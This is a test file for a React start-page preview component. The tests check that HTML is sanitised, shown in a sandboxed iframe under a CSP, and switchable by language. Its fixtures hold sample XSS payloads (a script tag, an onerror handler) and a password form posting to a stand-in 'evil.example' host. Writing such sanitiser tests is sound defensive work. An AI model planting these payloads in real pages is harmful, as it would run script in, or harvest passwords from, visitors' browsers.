import { describe, expect, it } from 'vitest';
import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { AdminContext, memoryStore } from 'react-admin';
import StartPagePreview, {
  buildPreviewDocument,
  sanitizeStartPageHtml,
} from '../../../../src/resources/start-pages/StartPagePreview';
import { buildStartPageCsp } from '../../../../src/domain/startPage';
import { createI18nProvider } from '../../../../src/providers/i18nProvider';
import { renderResource } from '../../harness/renderResource';
import { SLOW } from '../../harness/slow';
import { startPageData } from './data';

const EVIL = [
  {
    lang: 'de',
    default: true,
    text: '<h1 style="color:red">Hallo</h1><script>alert(1)</script><img src="x" onerror="alert(2)">',
  },
  { lang: 'en', default: false, text: '<h1>Hello</h1><form action="https://evil.example"><input name="pw"></form>' },
];
const DIRECTIVES = ['img-src https://cdn.example.com'];

function renderPreview(lang = 'de') {
  return render(
    <AdminContext i18nProvider={createI18nProvider('de')} store={memoryStore()}>
      <StartPagePreview
        templates={[{ slot: 'Welcome', text: EVIL, cspDirectives: DIRECTIVES }]}
        imprint={[{ lang: 'de', default: true, text: '<p>Impressum<iframe src="https://x.example"></iframe></p>' }]}
        lang={lang}
      />
    </AdminContext>,
  );
}

describe('Start-page preview', () => {
  it('sanitises the HTML and says when it removed something', () => {
    const clean = sanitizeStartPageHtml('<p style="color:red" onclick="x()">a<script>b</script></p>');
    expect(clean.html).toBe('<p style="color:red">a</p>');
    expect(clean.removed).toBe(true);
    expect(sanitizeStartPageHtml('<p>plain <img src="data:image/png;base64,AAAA"></p>')).toEqual({
      html: '<p>plain <img src="data:image/png;base64,AAAA"></p>',
      removed: false,
    });
    const doc = buildPreviewDocument({ slot: 'Welcome', text: EVIL, cspDirectives: DIRECTIVES }, null, 'de');
    expect(doc.srcdoc).toMatch(/^<!DOCTYPE html><html lang="de"><head><meta http-equiv="Content-Security-Policy"/);
  });

  it('renders in a sandboxed iframe without scripts or handlers, under the CSP of its directives', async () => {
    renderPreview();
    const frame = await screen.findByTitle('Vorschau der Startseite (Willkommen, de)');
    expect(frame.tagName).toBe('IFRAME');
    expect(frame).toHaveAttribute('sandbox', '');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    expect(srcdoc).toContain('<h1 style="color:red">Hallo</h1>');
    expect(srcdoc).not.toMatch(/<script/i);
    expect(srcdoc).not.toMatch(/onerror/i);
    expect(srcdoc).not.toMatch(/<iframe/i);
    const csp = buildStartPageCsp(DIRECTIVES);
    expect(csp).toContain('img-src data: https://cdn.example.com');
    expect(csp).toContain("script-src 'none'");
    const meta = new DOMParser().parseFromString(srcdoc, 'text/html').querySelector('meta[http-equiv]');
    expect(meta?.getAttribute('content')).toBe(csp);
    // the imprint is the footer, sanitised too
    expect(srcdoc).toContain('<footer><p>Impressum</p></footer>');
    expect(screen.getByRole('status')).toHaveTextContent('Skripte und aktive Inhalte wurden entfernt');
  });

  it('switches the language among the languages present', async () => {
    renderPreview();
    const user = userEvent.setup();
    await user.click(screen.getByRole('combobox', { name: 'Sprache der Vorschau' }));
    const options = within(screen.getByRole('listbox')).getAllByRole('option');
    expect(options.map((o) => o.textContent)).toEqual(['de', 'en']);
    await user.click(options[1]!);
    const frame = await screen.findByTitle('Vorschau der Startseite (Willkommen, en)');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    expect(srcdoc).toContain('<h1>Hello</h1>');
    expect(srcdoc).toContain('<html lang="en">');
    expect(srcdoc).not.toMatch(/<form|<input/i);
    // no English imprint: the default (German) one is the footer
    expect(srcdoc).toContain('<footer><p>Impressum</p></footer>');
  });

  it("previews a bundle slot by slot with the bundle's imprint", async () => {
    const data = startPageData();
    const bundle = data['start-pages/bundles']![0]!;
    await renderResource('start-pages', { records: startPageData(), path: `/start-pages/bundles/${bundle.id}` });
    const user = userEvent.setup();
    // The bundle opens on its welcome screen (what a guest sees first), with the bundle's imprint.
    const frame = await screen.findByTitle('Vorschau der Startseite (Willkommen, de)', {}, SLOW);
    expect(frame.getAttribute('srcdoc')).toContain('<h1>Willkommen</h1>');
    expect(frame.getAttribute('srcdoc')).toContain('Alpenhotel GmbH');
    await user.click(screen.getByRole('combobox', { name: 'Bildschirm der Vorschau' }));
    await user.click(within(screen.getByRole('listbox')).getByRole('option', { name: 'Erfolgreich angemeldet' }));
    expect(
      (await screen.findByTitle('Vorschau der Startseite (Erfolgreich angemeldet, de)')).getAttribute('srcdoc'),
    ).toContain('Alpenhotel GmbH');
  });
});
